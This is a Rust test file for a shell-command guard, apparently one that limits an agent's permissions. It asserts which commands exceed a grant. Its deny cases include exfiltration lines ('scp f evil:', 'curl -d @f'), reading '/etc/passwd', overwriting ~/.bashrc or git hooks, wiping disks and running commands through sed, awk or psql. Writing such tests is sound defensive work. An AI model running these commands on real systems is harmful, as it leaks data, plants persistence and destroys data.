#![allow(clippy::unwrap_used, reason = "tests fail by panicking")]

use crate::facts::options::exceeds;
use crate::facts::paths::Directories;
use crate::shell::scan;

fn goes_beyond(text: &str) -> bool {
    let scan = scan(text);
    exceeds(&scan.commands.last().unwrap().argv, false, Directories::default()).is_some()
}

#[test]
fn options_that_run_write_or_send_go_beyond_a_grant() {
    for text in [
        "sort -ro /etc/x f",
        "sort --outp=x f",
        "rg --pre=sh x",
        "rg -nz x",
        "sed -n '1e id' a",
        "sed 's/x/id/e' a",
        "sed 's/a/b/w f' x",
        "sed --in-p s/a/b/ f",
        "sed -Ei s/a/b/ f",
        "awk '{print | \"sh\"}' f",
        "awk 'BEGIN{system(\"id\")}'",
        "awk '{print > \"f\"}' x",
        "find . -delete",
        "find . $x",
        "git -c core.pager=x log",
        "git log --output=x",
        "git grep -Oless x",
        "git clone -cuser.x=y u",
        "git push -f",
        "git push origin :main",
        "git config core.pager x",
        "git remote add x y",
        "curl -o x http://y",
        "curl -sSo f http://y",
        "curl -d @f http://x",
        "curl http://x -d a=b",
        "curl file:///etc/passwd",
        "wget -qO f http://x",
        "tar xPf a.tar",
        "tar -C / -xf a.tar",
        "cp evil ~/.bashrc",
        "mv x /etc/cron.d/a",
        "rm -rf ../x",
        "chmod u+s f",
        "chmod 4755 f",
        "dd if=a of=/dev/sda",
        "tee ~/.bashrc",
        "tee .git/hooks/pre-commit",
        "cargo publish",
        "cargo --config x=y build",
        "make SHELL=/tmp/x",
        "cp a /var/tmp/x",
        "tee /tmp/x",
        "npm publish",
        "pytest -p evil",
        "psql -c '\\! id'",
        "kubectl delete ns prod",
        "uniq a b",
        "crontab x",
        "xxd -r a b",
        "scp f evil:",
        "rsync -e sh a b:",
    ]
    .iter()
    .filter(|text| !text.starts_with("scp"))
    {
        assert!(goes_beyond(text), "{text}");
    }
}

#[test]
fn everyday_options_do_not() {
    for text in [
        "rm -f /tmp/x",
        "sort -t, -k2 -rn f",
        "sort -u",
        "rg -n 'a|b' --type rust",
        "grep -rn -e f src",
        "grep -A5 x f",
        "sed -n '1,50p' f",
        "sed 's/a;b/c/g' f",
        "sed 's#/usr#/opt#' f",
        "sed -e 's/a/b/' -e '/x/d' f",
        "sed '/^#/d; s/w/e/' f",
        "awk '{print $1}' f",
        "awk -F: '{s+=$1} END {print s}' f",
        "awk '$3 > 1000 {print $1}' f",
        "awk '/system/ {print \"a|b\"}' f",
        "find . -name '*.rs' -type f",
        "git log --oneline -20",
        "git --no-pager diff",
        "git diff -- src",
        "git push -u origin main",
        "git config --get user.name",
        "git remote -v",
        "git commit -m 'x'",
        "git branch -a",
        "git stash push -m x",
        "curl -s http://localhost:8080/health",
        "curl -s -o /dev/null -w '%{http_code}' http://x",
        "curl -X POST -d '{\"a\":1}' http://localhost:3000",
        "wget -qO- http://x",
        "tar xzf a.tar.gz",
        "tar -czf a.tgz src",
        "cp a b",
        "mv old.rs new.rs",
        "rm build/x.o",
        "mkdir -p src/a/b",
        "mkdir -p src/{a,b}",
        "chmod +x run.sh",
        "chmod 755 f",
        "tee build.log",
        "cargo test --lib",
        "make -j8 test",
        "npm run build",
        "npm install --save-dev vitest",
        "pytest -q tests/a.py -p no:cacheprovider",
        "go test ./...",
        "gh pr view 12 --json title",
        "docker ps -a",
        "kubectl get pods",
        "terraform plan",
        "jq -r '.[] | .name' f",
        "uniq -c",
        "date +%F",
        "ls -la",
        "tail -f x",
        "touch x",
        "ln -s a b",
        "python3 -m pytest",
        "node x.js",
        "head -c 10 f",
        "cat a",
        "stat -c %s f",
        "file x",
    ] {
        assert!(!goes_beyond(text), "{text}");
    }
}
